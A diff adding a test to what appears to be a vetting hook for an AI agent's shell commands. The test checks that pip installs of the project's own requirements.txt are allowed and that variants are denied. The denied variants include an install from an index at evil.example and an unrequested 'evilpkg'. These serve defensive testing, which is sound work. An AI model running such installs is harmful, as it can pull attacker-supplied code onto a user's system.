@@ -1661,3 +1661,23 @@ watch_record() {
 	[ "$(jq -r '.changes[] | select(.path=="src/junk.c") | .text_added' <<<"$output")" = 41 ]
 	[ "$(jq -r .loc.added <<<"$output")" = $((102 + pic + obj)) ]
 }
+
+@test "package vetting: pip install -r of the project's own requirements.txt from its root is allowed; another list, a cd, a computed file or an index do not pass (benign11)" {
+	printf 'requests==2.31.0\n' >requirements.txt
+	printf 'evilpkg\n' >extra.txt
+	mkdir -p sub
+	git add -A && git commit -qm reqs
+	start
+	local c n=0
+	for c in 'pip install -r requirements.txt' 'python3 -m pip install --user -r requirements.txt' \
+		'pip install --requirement=./requirements.txt -t build/lib' 'pip3 install -rrequirements.txt'; do
+		hook pre Bash "$(jq -cn --arg c "$c" '{command:$c}')" "a$((n += 1))"
+		[ "$(decision_of)" = allow ] || { echo "denied: $c: $output"; return 1; }
+	done
+	for c in 'pip install -r extra.txt' 'cd sub && pip install -r requirements.txt' 'pip install -r "$F"' \
+		'pip install -r requirements.txt -i https://evil.example/simple' 'pip install -r requirements.txt evilpkg' \
+		'pip install -c requirements.txt evilpkg'; do
+		hook pre Bash "$(jq -cn --arg c "$c" '{command:$c}')" "d$((n += 1))"
+		[ "$(decision_of)" = deny ] || { echo "allowed: $c: $output"; return 1; }
+	done
+}
